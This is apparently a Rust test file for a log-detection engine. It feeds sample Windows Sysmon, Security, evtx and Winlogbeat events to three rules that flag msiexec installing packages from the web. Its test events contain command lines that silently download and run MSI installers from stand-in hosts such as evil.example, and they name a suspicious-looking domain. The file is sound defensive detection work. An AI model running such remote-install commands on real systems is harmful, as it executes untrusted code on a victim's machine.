//! Hand-written positives and near misses for each built-in rule, in the three
//! event layouts, checked against the generated code and the reference
//! interpreter.

use detect::JsonEvent;
use detect::interpreter::Interpreter;
use detect_rules::Builtin;

mod common;

use common::s as json;

const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";

fn sysmon1(cmd: &str) -> String {
    format!(
        r#"{{"Channel": "{SYSMON}", "EventID": 1, "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": {}}}"#,
        json(cmd)
    )
}

fn security4688(cmd: &str) -> String {
    format!(
        r#"{{"Channel": "Security", "EventID": 4688, "NewProcessName": "C:\\Windows\\System32\\cmd.exe", "CommandLine": {}}}"#,
        json(cmd)
    )
}

fn sysmon3(image: &str, port: &str, initiated: &str) -> String {
    format!(
        r#"{{"Channel": "{SYSMON}", "EventID": 3, "Image": {}, "Initiated": {initiated}, "DestinationPort": {port}, "DestinationIp": "203.0.113.7"}}"#,
        json(image)
    )
}

fn msi(event_id: u32, data0: &str) -> String {
    format!(
        r#"{{"Provider_Name": "MsiInstaller", "EventID": {event_id}, "Channel": "Application", "Data": [{}, "2600", "(NULL)", ""], "Data_0": {}}}"#,
        json(data0),
        json(data0)
    )
}

const MSIEXEC: &str = r"C:\Windows\System32\msiexec.exe";

/// (event, rules that must fire)
fn cases() -> Vec<(String, Vec<&'static str>)> {
    vec![
        // msiexec_web_install: Sysmon 1 and Security 4688.
        (sysmon1(r#"cmd.exe /c msiexec /q /i "https://evil.example/x.msi""#), vec!["msiexec_web_install"]),
        (security4688("cmd.exe /c msiexec /q /i http://evil.example/x.msi"), vec!["msiexec_web_install"]),
        (sysmon1("CMD.EXE /C MSIEXEC.EXE /I HTTP://EVIL.EXAMPLE/X.MSI"), vec!["msiexec_web_install"]),
        (sysmon1("cmd /c msiexec /i ftp://10.0.0.1/p.msi"), vec!["msiexec_web_install"]),
        (sysmon1("cmd.exe /c msiexec /i C:\\temp\\local.msi"), vec![]),
        (sysmon1("cmd.exe /c curl https://evil.example/x.msi"), vec![]),
        // The pattern needs a space before msiexec (the rule's own shape).
        (sysmon1(r#""C:\Windows\System32\msiexec.exe" /i https://evil.example/x.msi"#), vec![]),
        // Right command line, wrong log source.
        (
            format!(r#"{{"Channel": "{SYSMON}", "EventID": 3, "CommandLine": "x msiexec /i https://e/x.msi"}}"#),
            vec![],
        ),
        (r#"{"EventID": 1, "CommandLine": "x msiexec /i https://e/x.msi"}"#.into(), vec![]),
        // msiexec_http_connection.
        (sysmon3(MSIEXEC, "443", "\"true\""), vec!["msiexec_http_connection"]),
        (sysmon3(MSIEXEC, "80", "\"true\""), vec!["msiexec_http_connection"]),
        (sysmon3(r"c:\windows\syswow64\MSIEXEC.EXE", "80", "\"true\""), vec!["msiexec_http_connection"]),
        (sysmon3(MSIEXEC, "\"443\"", "\"true\""), vec!["msiexec_http_connection"]),
        (sysmon3(MSIEXEC, "443", "true"), vec!["msiexec_http_connection"]),
        (sysmon3(MSIEXEC, "8080", "\"true\""), vec![]),
        (sysmon3(MSIEXEC, "4430", "\"true\""), vec![]),
        (sysmon3(MSIEXEC, "443", "\"false\""), vec![]),
        (sysmon3(r"C:\Windows\System32\svchost.exe", "443", "\"true\""), vec![]),
        (sysmon3(r"C:\Users\x\msiexec.exe.bak", "443", "\"true\""), vec![]),
        (
            format!(r#"{{"Channel": "{SYSMON}", "EventID": 3, "Image": {}, "Initiated": "true"}}"#, json(MSIEXEC)),
            vec![],
        ),
        (
            format!(r#"{{"Channel": "{SYSMON}", "EventID": 3, "Image": {}, "DestinationPort": 443}}"#, json(MSIEXEC)),
            vec![],
        ),
        // msi_install_from_web (Datadog).
        (msi(1040, "http://officemysuppbox.com/staterepository"), vec!["msi_install_from_web"]),
        (msi(1040, "https://evil.example/a.msi"), vec!["msi_install_from_web"]),
        (msi(1040, r"C:\Windows\Installer\4d16b.msi"), vec![]),
        (msi(1042, "http://officemysuppbox.com/staterepository"), vec![]),
        (msi(1040, "https://s3.amazonaws.com/ddagent-windows-stable/datadog-agent-7-latest.amd64.msi"), vec![]),
        (msi(1040, "https://windows-agent.datadoghq.com/datadog-agent-7-latest.amd64.msi"), vec![]),
        (msi(1040, "HTTPS://WINDOWS-AGENT.DATADOGHQ.COM/datadog-agent-7.msi"), vec![]),
        // A Datadog-looking file name on another host is not excluded.
        (msi(1040, "https://evil.example/datadog-agent-7-latest.amd64.msi"), vec!["msi_install_from_web"]),
        // Case-sensitive Datadog attribute search: the provider must be spelt exactly.
        (
            r#"{"Provider_Name": "msiinstaller", "EventID": 1040, "Channel": "Application", "Data": ["http://x/y"]}"#.into(),
            vec![],
        ),
        (
            r#"{"Provider_Name": "MsiInstaller", "EventID": 1040, "Channel": "System", "Data": ["http://x/y"]}"#.into(),
            vec![],
        ),
        (
            r#"{"Provider_Name": "MsiInstaller", "EventID": 1040, "Channel": "Application"}"#.into(),
            vec![],
        ),
        // The evtx crate's nested layout.
        (
            r##"{"Event": {"System": {"Provider": {"#attributes": {"Name": "MsiInstaller"}}, "EventID": {"#attributes": {"Qualifiers": 0}, "#text": 1040}, "Channel": "Application"}, "EventData": {"Data": {"#text": ["http://officemysuppbox.com/staterepository", "2600"]}}}}"##.into(),
            vec!["msi_install_from_web"],
        ),
        (
            r##"{"Event": {"System": {"Provider": {"#attributes": {"Name": "MsiInstaller"}}, "EventID": 1040, "Channel": "Application"}, "EventData": {"Data": ["C:\\x.msi", "2600"]}}}"##.into(),
            vec![],
        ),
        (
            format!(r#"{{"Event": {{"System": {{"EventID": 1, "Channel": "{SYSMON}"}}, "EventData": {{"CommandLine": "cmd /c msiexec /i https://e/x.msi"}}}}}}"#),
            vec!["msiexec_web_install"],
        ),
        (
            format!(r#"{{"Event": {{"System": {{"EventID": 3, "Channel": "{SYSMON}"}}, "EventData": {{"Image": {}, "Initiated": "true", "DestinationPort": 443}}}}}}"#, json(MSIEXEC)),
            vec!["msiexec_http_connection"],
        ),
        (
            format!(r#"{{"Event": {{"System": {{"EventID": 3, "Channel": "{SYSMON}"}}, "EventData": {{"Image": {}, "Initiated": "true", "DestinationPort": 8080}}}}}}"#, json(MSIEXEC)),
            vec![],
        ),
        // ECS (Winlogbeat).
        (
            format!(r#"{{"@timestamp": "2024-05-01T10:00:00Z", "winlog": {{"channel": "{SYSMON}", "event_id": 1}}, "process": {{"command_line": "cmd /c msiexec /i https://e/x.msi", "executable": "C:\\Windows\\System32\\cmd.exe"}}}}"#),
            vec!["msiexec_web_install"],
        ),
        (
            format!(r#"{{"@timestamp": "2024-05-01T10:00:00Z", "winlog": {{"channel": "{SYSMON}", "event_id": 1}}, "process": {{"command_line": "cmd /c msiexec /i C:\\x.msi"}}}}"#),
            vec![],
        ),
        (
            format!(r#"{{"@timestamp": "2024-05-01T10:00:00Z", "winlog": {{"channel": "{SYSMON}", "event_id": 3, "event_data": {{"Initiated": "true"}}}}, "process": {{"executable": {}}}, "destination": {{"port": 80}}}}"#, json(MSIEXEC)),
            vec!["msiexec_http_connection"],
        ),
        (
            r#"{"@timestamp": "2024-05-01T10:00:00Z", "winlog": {"channel": "Application", "provider_name": "MsiInstaller", "event_id": 1040, "event_data": {"Data": ["https://evil.example/a.msi"]}}}"#.into(),
            vec!["msi_install_from_web"],
        ),
    ]
}

#[test]
fn seeds_fire_exactly_where_they_should_in_generated_code_and_interpreter() {
    let interp = Interpreter::new(&Builtin::ir()).expect("built-in IR loads");
    let mut failures = Vec::new();
    for (json, want) in cases() {
        let event =
            JsonEvent::parse_str(&json).unwrap_or_else(|e| panic!("bad test event {json}: {e}"));
        let mut generated = Vec::new();
        Builtin::scan(&event, |r| generated.push(r.name));
        let mut unfiltered = Vec::new();
        Builtin::scan_unfiltered(&event, |r| unfiltered.push(r.name));
        let interpreted: Vec<&str> = interp
            .matches(&event)
            .into_iter()
            .map(|i| Builtin::RULES[i].name)
            .collect();
        if generated != want || unfiltered != want || interpreted != want {
            failures.push(format!(
                "{json}\n  want {want:?}, generated {generated:?}, unfiltered {unfiltered:?}, interpreter {interpreted:?}"
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn metadata_comes_from_the_seeds() {
    let datadog = Builtin::rule("msi_install_from_web").unwrap();
    assert_eq!(datadog.id, Some("def-000-ce3"));
    assert_eq!(datadog.title, "Windows MSI installation from web");
    let web = Builtin::rule("msiexec_web_install").unwrap();
    assert_eq!(web.title, "MsiExec Web Install");
    assert_eq!(web.level, detect::ir::Level::Medium);
    assert_eq!(web.author, Some("Florian Roth"));
    assert_eq!(web.logsource.category, Some("process_creation"));
    let http = Builtin::rule("msiexec_http_connection").unwrap();
    assert_eq!(http.id, Some("8e5e38e4-5350-4c0b-895a-e872ce0dd54f"));
    assert_eq!(http.level, detect::ir::Level::Low);
    assert_eq!(
        http.tags,
        [
            "attack.stealth",
            "attack.t1218.007",
            "detection.threat-hunting"
        ]
    );
    assert_eq!(http.status, Some(detect::ir::Status::Test));
}
